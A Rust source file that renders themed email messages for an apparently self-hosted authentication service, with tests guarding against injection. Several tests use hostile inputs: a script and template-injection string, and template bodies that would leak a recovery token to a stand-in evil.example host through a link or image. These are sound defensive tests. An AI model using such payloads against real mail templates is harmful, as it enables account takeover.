//! The words of messages, from the same theme as pages.
//!
//! Links and codes are no values of a template: `action()` leaves a mark where one belongs, and it
//! is put in once the message is finished (security.md R20).

use std::collections::BTreeMap;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use minijinja::value::{Serde, Value};
use minijinja::{Environment, HtmlEscape, context};

use super::{BASE_LANGUAGE, Brand, TemplateError, Templates, Touched, functions, guard, text};
use crate::mail::letter::Words;
use crate::mail::message::{Message, Proof};
use crate::web::language::fitting;

/// An element that the guard counts where a browser would see one, and no message holds otherwise.
const HTML_MARK: &str = "<form method=\"post\">";
/// A letter of no language; what comes from elsewhere is freed of it.
const TEXT_MARK: &str = "\u{e000}";

impl Templates {
    /// Renders a message.
    ///
    /// # Errors
    /// If a template fails, or makes something that no message may hold.
    pub fn render_mail(
        &self,
        (brand, language): (&Brand, Option<&str>),
        home: &str,
        message: &Message,
    ) -> Result<Words, TemplateError> {
        let known: Vec<&str> = self.languages().collect();
        let language = language.and_then(|tag| fitting(tag, &known)).unwrap_or(BASE_LANGUAGE);
        let rendering = Rendering {
            environment: self.environment(language)?,
            language,
            brand: &Brand { title: brand.title.replace(TEXT_MARK, ""), ..brand.clone() },
            home,
            style: self.assets.mail_style(),
            message,
        };
        Ok(Words {
            subject: rendering.phrase("subject")?,
            text: rendering.text()?,
            html: rendering.html()?,
        })
    }

    /// Renders one message of each kind, with ordinary text in it and with an attacker's.
    pub(super) fn check_mail(&self, touched: &Touched) -> Vec<TemplateError> {
        let brand = Brand { title: "Home Lab".to_owned(), ..Brand::plain() };
        let home = "https://auth.home.example";
        let texts = ["Ada Lovelace", super::pages::HOSTILE];
        let messages = texts.into_iter().flat_map(Message::samples);
        let mut errors = Vec::new();
        for message in messages {
            let kind = message.kind().word();
            let templates = ["html", "txt"].map(|ending| format!("mail/{kind}.{ending}"));
            let holds =
                |language: &&str| templates.iter().any(|name| touched.holds(name, language));
            for language in self.languages().filter(holds) {
                errors.extend(self.render_mail((&brand, Some(language)), home, &message).err());
            }
        }
        errors
    }
}

struct Rendering<'a> {
    environment: &'a Environment<'static>,
    language: &'a str,
    brand: &'a Brand,
    home: &'a str,
    style: &'a str,
    message: &'a Message,
}

impl Rendering<'_> {
    fn name(&self, ending: &str) -> String {
        format!("mail/{}.{ending}", self.message.kind().word())
    }

    /// A text of this kind of message that stands in no template, such as its subject.
    fn phrase(&self, which: &str) -> Result<String, TemplateError> {
        let key = format!("mail.{}.{which}", self.message.kind().word());
        let values = context! { key => key, brand => self.brand.title.as_str() };
        let source = "{{ t(key, brand=brand) }}";
        Ok(self.environment.render_named_str("phrase.txt", source, values)?)
    }

    fn rendered(&self, name: &str, mark: &'static str) -> Result<(String, usize), TemplateError> {
        let calls = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&calls);
        let action = Value::from_function(move || {
            counted.fetch_add(1, Ordering::Relaxed);
            Value::from_safe_string(mark.to_owned())
        });
        let values: BTreeMap<&str, String> = self
            .message
            .values()
            .into_iter()
            .map(|(name, value)| (name, value.replace(TEXT_MARK, "")))
            .collect();
        let rendered = self.environment.get_template(name)?.render(context! {
            mail => Value::from(Serde(values)),
            brand => Value::from(Serde(self.brand)),
            home => self.home,
            language => self.language,
            direction => text::direction(self.language),
            style => Value::from_safe_string(self.style.to_owned()),
            action => action,
        })?;
        let calls = calls.load(Ordering::Relaxed);
        let wanted = usize::from(self.message.proof().is_some());
        if calls != wanted {
            let reason = match wanted {
                0 => "there is nothing that `action()` could put into this message",
                _ => "`action()` stands in this message once: it puts the link or the code there",
            };
            return Err(TemplateError::of_page(name, reason.to_owned()));
        }
        Ok((rendered, calls))
    }

    fn text(&self) -> Result<String, TemplateError> {
        let name = self.name("txt");
        let (text, calls) = self.rendered(&name, TEXT_MARK)?;
        let alone = text.lines().filter(|line| *line == TEXT_MARK).count();
        if alone != calls || text.matches(TEXT_MARK).count() != calls {
            let reason = "`{{ action() }}` stands alone on its line";
            return Err(TemplateError::of_page(&name, reason.to_owned()));
        }
        let proof = match self.message.proof() {
            Some(Proof::Link(proof) | Proof::Code(proof)) => proof,
            None => "",
        };
        Ok(format!("{}\n", text.trim().replace(TEXT_MARK, proof)))
    }

    fn html(&self) -> Result<String, TemplateError> {
        let name = self.name("html");
        let (html, calls) = self.rendered(&name, HTML_MARK)?;
        let places = guard::check(&html, calls, Some(self.style))
            .map_err(|reason| TemplateError::of_page(&name, reason))?;
        let Some(end) = places.first().copied() else { return Ok(html) };
        let start = end.saturating_sub(HTML_MARK.len());
        let (Some(before), Some(HTML_MARK), Some(after)) =
            (html.get(..start), html.get(start..end), html.get(end..))
        else {
            let reason = "a message holds no form".to_owned();
            return Err(TemplateError::of_page(&name, reason));
        };
        Ok(format!("{before}{}{after}", self.element()?))
    }

    /// The link or the code as an element.
    fn element(&self) -> Result<String, TemplateError> {
        Ok(match self.message.proof() {
            Some(Proof::Link(url)) => {
                let (url, label) = (functions::escaped(url), self.phrase("action")?);
                format!(
                    "<p><a class=\"button\" href=\"{url}\">{}</a></p>\n<p class=\"address\">{url}</p>",
                    HtmlEscape(&label)
                )
            }
            Some(Proof::Code(code)) => format!("<p class=\"code\">{}</p>", HtmlEscape(code)),
            None => String::new(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Overrides, pages::HOSTILE};
    use super::*;

    const HOME: &str = "https://auth.home.example";

    fn rendered(templates: &Templates, message: &Message) -> Words {
        let brand = Brand { title: "Lab & <Home>".to_owned(), ..Brand::plain() };
        templates.render_mail((&brand, None), HOME, message).unwrap()
    }

    fn shipped() -> Templates {
        Templates::load(&Overrides::none()).unwrap()
    }

    fn refused(name: &str, source: &str) -> String {
        let errors = Templates::load(&Overrides::from_files([(name, source)])).unwrap_err();
        errors.first().unwrap().to_string()
    }

    #[test]
    fn text_and_html_say_the_same_and_hold_the_link_or_the_code_once() {
        let templates = shipped();
        for message in Message::samples("Ada") {
            let words = rendered(&templates, &message);
            assert!(words.subject.contains("Lab & <Home>"), "{}", words.subject);
            assert!(words.html.starts_with("<!doctype html>\n"), "{}", words.html);
            match message.proof() {
                Some(Proof::Link(url)) => {
                    assert_eq!(words.text.lines().filter(|line| *line == url).count(), 1);
                    assert_eq!(words.html.matches(&format!("href=\"{url}\"")).count(), 1);
                }
                Some(Proof::Code(code)) => {
                    assert_eq!(words.text.lines().filter(|line| *line == code).count(), 1);
                    assert_eq!(words.html.matches(&format!(">{code}<")).count(), 1);
                }
                None => assert!(!words.html.contains("class=\"button\"")),
            }
            assert!(words.text.ends_with(&format!("{HOME}\n")), "{}", words.text);
            for mark in [TEXT_MARK, "<form"] {
                assert!(!words.text.contains(mark) && !words.html.contains(mark));
            }
        }
    }

    /// security.md R20
    #[test]
    fn hostile_text_stays_text_in_html_and_on_its_line_in_text() {
        let templates = shipped();
        let hostile = format!("{HOSTILE}\r\n\r\nhttps://evil.example/{TEXT_MARK}{HTML_MARK}");
        for message in Message::samples(&hostile) {
            let words = rendered(&templates, &message);
            let html = words.html.to_ascii_lowercase();
            assert!(!html.contains("<script") && !html.contains("<img"), "{html}");
            assert!(html.contains("lab &amp; &lt;home&gt;"), "{html}");
            assert!(!words.text.lines().any(|line| line.starts_with("https://evil")));
            assert!(!words.subject.contains(['\r', '\n']), "{}", words.subject);
            if !message.values().contains_key("name") {
                continue;
            }
            assert!(words.text.contains("<script>alert('{{ 7 * 7 }}')"), "{}", words.text);
            assert!(html.contains("&lt;script&gt;"), "{html}");
        }
    }

    #[test]
    fn an_own_template_takes_the_place_of_the_shipped_one() {
        let own = Overrides::from_files([
            (
                "mail/test.txt",
                "{% extends \"default/mail/test.txt\" %}{% block body %}Hi & bye{% endblock %}",
            ),
            ("mail/style.css", "body { color: red; }"),
            ("text.en.txt", "mail.test.subject = Ping"),
        ]);
        let templates = Templates::load(&own).unwrap();
        let words = rendered(&templates, &Message::Test { at: crate::clock::Millis(0) });
        assert!(words.text.starts_with("Hi & bye\n"), "{}", words.text);
        assert!(words.html.contains("<style>body{color:red;}</style>"), "{}", words.html);
        assert_eq!(words.subject, "Ping");
    }

    /// security.md R20
    #[test]
    fn a_theme_that_would_send_a_link_elsewhere_is_refused() {
        let around = |body: &str| {
            format!("{{% extends \"mail/base.html\" %}}{{% block body %}}{body}{{% endblock %}}")
        };
        for (body, reason) in [
            ("<p>", "`action()` stands in this message once"),
            ("{{ action() }}{{ action() }}", "`action()` stands in this message once"),
            ("<a href='https://evil.example/?{{ action() }}'>x</a>", "a form must be opened"),
            ("<!-- {{ action() }} -->", "a form must be opened"),
            ("{{ action() }}<img src='https://evil.example/'>", "not a file of this theme"),
            ("{{ action() }}{{ mail.url }}", "undefined"),
        ] {
            let error = refused("mail/recovery-link.html", &around(body));
            assert!(error.contains(reason), "{body}: {error}");
        }
        let error = refused("mail/recovery-link.txt", "https://evil.example/?{{ action() }}");
        assert!(error.contains("stands alone on its line"), "{error}");
        let error = refused("mail/test.txt", "{{ action() }}");
        assert!(error.contains("there is nothing"), "{error}");
    }
}
